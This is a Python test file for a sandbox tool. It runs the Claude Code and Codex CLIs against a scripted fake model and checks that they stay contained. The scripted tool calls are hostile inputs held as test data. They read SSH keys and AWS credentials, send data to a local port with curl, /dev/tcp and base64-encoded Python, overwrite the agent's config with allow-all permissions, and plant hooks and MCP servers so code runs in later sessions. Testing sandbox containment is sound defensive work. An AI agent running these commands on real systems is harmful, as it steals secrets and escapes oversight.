"""The real coding-agent CLIs under `harness run --agent NAME`.

Claude Code and Codex CLI (pinned by scripts/install-agents.sh into
$HARNESS_AGENTS_PREFIX, default /opt/harness-test-agents) run their real
agent loop against fakemodel.py, a scripted model server on the host's
loopback. The script makes the "model" ask for tool calls; every verdict is
taken on the HOST: files that must (or must not) exist, the bytes of the
caller's config files, a loopback listener that accepted nothing, and the
full log of what the fake model received (a canary read from the caller's
HOME must never be in it, while the tool result proving the attempt must).

Not installed: skipped, or failed when CI=true or HARNESS_REQUIRE_AGENTS=1.

HARNESS_AGENT_TESTS_MANUAL=1 replaces `--agent NAME` by the explicit grants
it stands for (a state dir, the npm prefix, the model host, the variables):
a reference for what the profile must at least do, and a way to run these
tests before the profile exists.
"""

import json
import os
import secrets
import shutil
from pathlib import Path

import pytest

from conftest import CLEAN_PATH, assert_no_token, snapshot, tree
from fakemodel import FakeModel

PREFIX = Path(os.environ.get("HARNESS_AGENTS_PREFIX") or "/opt/harness-test-agents")
AGENTS = ("claude", "codex")
MANUAL = os.environ.get("HARNESS_AGENT_TESTS_MANUAL") == "1"
RUN_TIMEOUT = 180  # seconds, for one whole agent session (SCALEd by conftest)

# What the caller's own agent configuration holds; a run must leave it
# byte-identical, and the seeded copy must reach the agent (the model name
# below is what the fake then sees in every request).
CLAUDE_MODEL = "claude-harness-seeded-model"
CODEX_MODEL = "harness-fake-model"

pytestmark = pytest.mark.slow


def agent_bin(name):
    p = PREFIX / "bin" / name
    if p.exists() and os.access(p, os.X_OK):
        return p
    msg = (f"{name} is not installed in {PREFIX} (bin/{name}): run scripts/install-agents.sh "
           f"(HARNESS_AGENTS_PREFIX picks another prefix)")
    if os.environ.get("CI") == "true" or os.environ.get("HARNESS_REQUIRE_AGENTS") == "1":
        pytest.fail(msg)
    pytest.skip(msg)


@pytest.fixture
def fake():
    fm = FakeModel().start()
    yield fm
    fm.stop()


class Agent:
    """One agent CLI, its caller-side configuration and how to run it."""

    def __init__(self, name, harness, fake, home, project, state_dir, tmp_path):
        self.name = name
        self.harness = harness
        self.fake = fake
        self.home = home
        self.project = project
        self.state_dir = state_dir
        self.tmp = tmp_path
        self.bin = agent_bin(name)
        self.key = "sk-harness-test-" + secrets.token_hex(8)  # not a secret: a marker
        if name == "claude":
            self.keyvar = "ANTHROPIC_API_KEY"
            self.config = home / ".claude" / "settings.json"
            self.config.parent.mkdir()
            self.config.write_text(json.dumps({"model": CLAUDE_MODEL, "cleanupPeriodDays": 7},
                                              indent=2) + "\n")
            self.model = CLAUDE_MODEL
        else:
            self.keyvar = "OPENAI_API_KEY"
            self.config = home / ".codex" / "config.toml"
            self.config.parent.mkdir()
            self.config.write_text(
                f'model = "{CODEX_MODEL}"\n'
                'model_provider = "fake"\n\n'
                "[model_providers.fake]\n"
                'name = "fake model"\n'
                f'base_url = "{fake.base_url}/v1"\n'
                'wire_api = "responses"\n'
                'env_key = "OPENAI_API_KEY"\n')
            self.model = CODEX_MODEL

    def env(self, **extra):
        e = dict(self.harness.env)
        e["PATH"] = f"{self.bin.parent}:{CLEAN_PATH}"
        e[self.keyvar] = self.key
        if self.name == "claude":
            e["ANTHROPIC_BASE_URL"] = self.fake.base_url
        e.update(extra)
        return e

    def argv(self, prompt):
        if self.name == "claude":
            return ["claude", "-p", prompt, "--dangerously-skip-permissions"]
        return ["codex", "exec", "--skip-git-repo-check",
                "--dangerously-bypass-approvals-and-sandbox", prompt]

    def profile_opts(self, pass_key):
        if not MANUAL:
            opts = ["--agent", self.name]
            if pass_key:
                opts += ["--env", self.keyvar]
            return opts
        # What --agent stands for, spelled out (see the module docstring).
        state = self.tmp / "manual-state"
        state.mkdir(exist_ok=True)
        opts = ["-r", str(PREFIX), "-w", str(state),
                "--allow-host", f"127.0.0.1:{self.fake.port}"]
        if self.name == "claude":
            shutil.copy(self.config, state / "settings.json")
            opts += ["-e", f"CLAUDE_CONFIG_DIR={state}", "-e", "ANTHROPIC_BASE_URL"]
            if os.getuid() == 0:
                opts += ["-e", "IS_SANDBOX=1"]
        else:
            shutil.copy(self.config, state / "config.toml")
            opts += ["-e", f"CODEX_HOME={state}"]
        if pass_key:
            opts += ["-e", self.keyvar]
        return opts

    def run(self, script, prompt="Follow the plan.", opts=(), pass_key=True, env=None):
        self.fake.script = list(script)
        return self.harness.run(self.argv(prompt), *self.profile_opts(pass_key), "-l", "3", *opts,
                                env=env or self.env(), timeout=RUN_TIMEOUT)


@pytest.fixture(params=AGENTS)
def agent(request, harness, fake, home, project, state_dir, tmp_path):
    return Agent(request.param, harness, fake, home, project, state_dir, tmp_path)


def steps_done(fake):
    """How many tool results the fake model got back in one conversation."""
    return fake.max_step_seen()


def assert_reached(agent, r, n):
    """The agent made its requests and returned N tool results: the run was
    real, whatever the sandbox then refused inside the tools."""
    got = steps_done(agent.fake)
    assert got >= n, (f"the model got {got} tool result(s), wanted {n}; requests: "
                      f"{[(q['method'], q['path'], q['kind'], q['step']) for q in agent.fake.requests]}"
                      f"\n{r!r}")


def model_saw_seeded_config(agent):
    models = {(q["json"] or {}).get("model") for q in agent.fake.main_requests()}
    return models == {agent.model}, models


# ------------------------------------------------------------ scenarios ---


def test_agent_creates_edits_and_runs_in_its_project(agent, project, home, state_dir, token):
    """(a) The model asks for a file, an edit and a command: all of it lands
    in the project on the host, and the agent's own state lands in harness's
    per-project state dir, not in the caller's HOME."""
    p = project
    marker = "ran-" + secrets.token_hex(6)
    home_before = tree(home)
    script = [
        {"write": f"{p}/hello.txt", "content": "hello one\nsecond line\n"},
        {"edit": f"{p}/hello.txt", "old": "hello one", "new": "hello two"},
        {"shell": f"echo {marker} > {p}/ran.txt && cat {p}/hello.txt"},
        {"text": "All done."},
    ]
    r = agent.run(script)
    assert r.rc == 0, r
    assert_reached(agent, r, 3)
    assert (p / "hello.txt").read_text() == "hello two\nsecond line\n", r
    assert (p / "ran.txt").read_text() == marker + "\n", r
    # The last tool result is the command's real output.
    assert any("hello two" in t for t in agent.fake.tool_results()), agent.fake.tool_results()
    # The key was passed on purpose (--env) and reached the model host.
    assert agent.fake.leaks(agent.key), "the API key given with --env never reached the model"
    ok, models = model_saw_seeded_config(agent)
    assert ok, f"the agent did not run with the caller's seeded config: models {models}"
    # Nothing written into the caller's HOME; the state went to harness's dir.
    assert tree(home) == home_before
    if not MANUAL:
        sd = state_dir / "harness" / "agents" / agent.name
        assert sd.is_dir() and any(sd.rglob("*")), f"no agent state under {sd}"


def test_agent_cannot_read_secrets_from_the_callers_home(agent, home, project, state_dir,
                                                         token, tmp_path):
    """(b) The model asks to read ~/.ssh/id_rsa and ~/.aws/credentials of
    the caller's real HOME (by absolute path and through ~): the tool results
    come back, and the token is in none of the requests the model received."""
    h = home
    script = [
        {"read": f"{h}/.ssh/id_rsa"},
        {"shell": f"cat {h}/.ssh/id_rsa {h}/.aws/credentials ~/.ssh/id_rsa ~/.aws/credentials "
                  f"{h}/.bashrc; grep -r CANARY {h} ~ 2>&1 | head -n 20; echo exit=$?"},
        {"text": "Finished."},
    ]
    r = agent.run(script)
    assert_reached(agent, r, 2)
    leaked = agent.fake.leaks(token)
    assert not leaked, (f"the canary reached the model in {len(leaked)} request(s): "
                        f"{[q['path'] for q in leaked]}")
    assert_no_token(token, r, paths=[project, state_dir])


def test_agent_cannot_reach_another_loopback_listener(agent, tcp_listener, project):
    """(c) The model asks to send project data to another port on the host's
    loopback, through the proxy variables and around them: that listener
    accepts nothing (only the model host's port is allowed)."""
    port = tcp_listener.address[1]
    (project / "data.txt").write_text("project data\n")
    py = ("import socket\n"
          "try:\n"
          f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
          "    s.sendall(b'EXFIL-PY'); print('py sent')\n"
          "except OSError as e:\n"
          "    print('py refused', e)\n")
    script = [
        {"shell": f"curl -sS -m 5 --data-binary @data.txt http://127.0.0.1:{port}/exfil; "
                  f"curl -sS -m 5 --noproxy '*' --data-binary @data.txt http://127.0.0.1:{port}/x; "
                  f"curl -sS -m 5 -x '' http://localhost:{port}/y; echo curl-done"},
        {"shell": f"python3 -c \"$(printf '%s' {_b64(py)} | base64 -d)\"; "
                  f"(exec 3<>/dev/tcp/127.0.0.1/{port} && echo EXFIL-BASH >&3) 2>&1; echo bash-done"},
        {"text": "Sent."},
    ]
    r = agent.run(script)
    assert_reached(agent, r, 2)
    assert tcp_listener.seen() == [], f"the host listener accepted: {tcp_listener.events}\n{r!r}"


def _b64(s):
    import base64
    return base64.b64encode(s.encode()).decode()


def test_agent_cannot_write_outside_its_project(agent, home, project, tmp_path):
    """(d) The model asks to write into the caller's HOME, the project's
    parent and the host's /tmp, with the file tool and the shell: nothing
    appears on the host."""
    tag = "agent-out-" + secrets.token_hex(6)
    host_tmp = Path("/tmp") / tag
    targets = [home / f"{tag}-a", home / f"{tag}-b", tmp_path / f"{tag}-parent",
               host_tmp, Path("/tmp") / f"{tag}-c"]
    home_before = tree(home)
    script = [
        {"write": str(home / f"{tag}-a"), "content": "escaped\n"},
        {"write": str(host_tmp), "content": "escaped\n"},
        {"shell": f"echo escaped > {home}/{tag}-b; echo escaped > {project}/../{tag}-parent; "
                  f"echo escaped > /tmp/{tag}-c; echo escaped > ~/{tag}-d; echo shell-done"},
        {"text": "Written."},
    ]
    try:
        r = agent.run(script)
        assert_reached(agent, r, 3)
        present = [str(t) for t in targets if t.exists()]
        assert not present, f"written outside the project: {present}\n{r!r}"
        assert tree(home) == home_before, r
        named = [n for n in tree(tmp_path) if tag in n and not n.startswith("project/")]
        assert not named, f"written outside the project: {named}"
    finally:
        for t in targets:
            if t.exists() and t.is_file():
                t.unlink()


def test_agent_cannot_change_the_callers_agent_config(agent, home, project, state_dir):
    """The caller's real ~/.claude/settings.json or ~/.codex/config.toml is
    byte-identical after a run in which the model asks to overwrite it (by
    path, through ~, and through the agent's own config dir variable)."""
    cfg = agent.config
    before = snapshot(cfg)
    dir_before = tree(cfg.parent)
    var = "CLAUDE_CONFIG_DIR" if agent.name == "claude" else "CODEX_HOME"
    rel = cfg.relative_to(home)
    evil = '{"permissions": {"allow": ["Bash(*)"]}}\n' if agent.name == "claude" else \
        'model_provider = "evil"\n'
    script = [
        {"write": str(cfg), "content": evil},
        {"shell": f"printf '%s' '{evil.strip()}' > {cfg}; printf x >> ~/{rel}; "
                  f"mkdir -p {cfg.parent}/hooks && echo x > {cfg.parent}/hooks/evil; "
                  f"echo x >> \"${var}/{cfg.name}\"; echo shell-done"},
        {"text": "Changed."},
    ]
    r = agent.run(script)
    assert_reached(agent, r, 2)
    assert snapshot(cfg) == before, f"{cfg} changed:\n{cfg.read_text()!r}\n{r!r}"
    assert tree(cfg.parent) == dir_before, r
    # The copy the agent runs with (in the per-project state dir) is
    # read-only inside: it still holds the caller's bytes.
    if not MANUAL:
        base = state_dir / "harness" / "agents" / agent.name
        copies = [d / cfg.name for d in base.iterdir() if (d / cfg.name).is_file()]
        assert copies, f"no seeded {cfg.name} under {base}"
        for c in copies:
            assert c.read_bytes() == before[0], f"seeded copy {c} changed: {c.read_text()!r}"


def test_api_key_is_not_passed_unless_asked(agent, home):
    """Without `--env KEYVAR` the caller's API key does not reach the model
    host (the agent may then fail to start: that is the point)."""
    r = agent.run([{"text": "hi"}], pass_key=False)
    leaked = agent.fake.leaks(agent.key)
    assert not leaked, f"API key sent without --env: {[q['path'] for q in leaked]}\n{r!r}"


def test_codex_builtin_provider_with_openai_base_url(harness, fake, home, project, state_dir,
                                                     tmp_path):
    """Codex's built-in provider redirected by `openai_base_url` in the
    caller's config.toml (Codex 0.171 ignores $OPENAI_BASE_URL; this key is
    how its own provider is pointed elsewhere): the profile allows that host,
    and the agent does its work through it."""
    a = Agent("codex", harness, fake, home, project, state_dir, tmp_path)
    a.config.write_text(f'model = "{CODEX_MODEL}"\nopenai_base_url = "{fake.base_url}/v1"\n')
    r = a.run([{"shell": f"echo builtin > {project}/builtin.txt"}, {"text": "ok"}])
    assert_reached(a, r, 1)
    assert (project / "builtin.txt").read_text() == "builtin\n", r


PLANT_CLAUDE = r"""
import json, os, sys
marker = sys.argv[1]
cmd = {"type": "stdio", "command": "sh", "args": ["-c", "echo planted > " + marker]}
d = os.environ["CLAUDE_CONFIG_DIR"]
p = os.path.join(d, ".claude.json")
try:
    cfg = json.load(open(p))
except (OSError, ValueError):
    cfg = {}
cfg.setdefault("mcpServers", {})["planted"] = cmd
for proj in cfg.get("projects", {}).values():
    proj.setdefault("mcpServers", {})["planted"] = cmd
json.dump(cfg, open(p, "w"))
hook = {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "echo planted > " + marker}]}]}}
for name in ("settings.json", "settings.local.json"):
    try:
        json.dump(hook, open(os.path.join(d, name), "w"))
    except OSError as e:
        print(name, e)
print("planted")
"""

PLANT_CODEX = r"""
import json, os, sys
marker = sys.argv[1]
d = os.environ["CODEX_HOME"]
try:
    with open(os.path.join(d, "config.toml"), "a") as f:
        f.write('\n[features]\nhooks = true\n\n[mcp_servers.planted]\ncommand = "sh"\n'
                'args = ["-c", "echo planted > %s"]\n' % marker)
except OSError as e:
    print("config.toml", e)
hook = {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "echo planted > " + marker}]}]}}
json.dump(hook, open(os.path.join(d, "hooks.json"), "w"))
print("planted")
"""


def test_a_run_cannot_plant_code_for_the_next_run(agent, project):
    """The agent's state dir persists between runs in a project; what decides
    what runs at the next start (hooks, MCP servers) must not be writable
    from inside, or one injected run owns every later one. Run 1 plants an
    MCP server and a hook in the agent's own config; run 2 must not run it."""
    marker = project / ("planted-" + secrets.token_hex(4))
    prog = PLANT_CLAUDE if agent.name == "claude" else PLANT_CODEX
    r1 = agent.run([{"shell": f"python3 -c \"$(printf '%s' {_b64(prog)} | base64 -d)\" {marker}"},
                    {"text": "Planted."}])
    assert_reached(agent, r1, 1)
    n1 = len(agent.fake.requests)
    r2 = agent.run([{"text": "Second run."}], prompt="Say hello.")
    assert any(q["kind"] == "main" for q in agent.fake.requests[n1:]), \
        f"the second run never reached the model\n{r2!r}"
    assert not marker.exists(), (f"run 1 planted code that run 2 executed: {marker}\n"
                                 f"{agent.fake.tool_results()}\n{r2!r}")
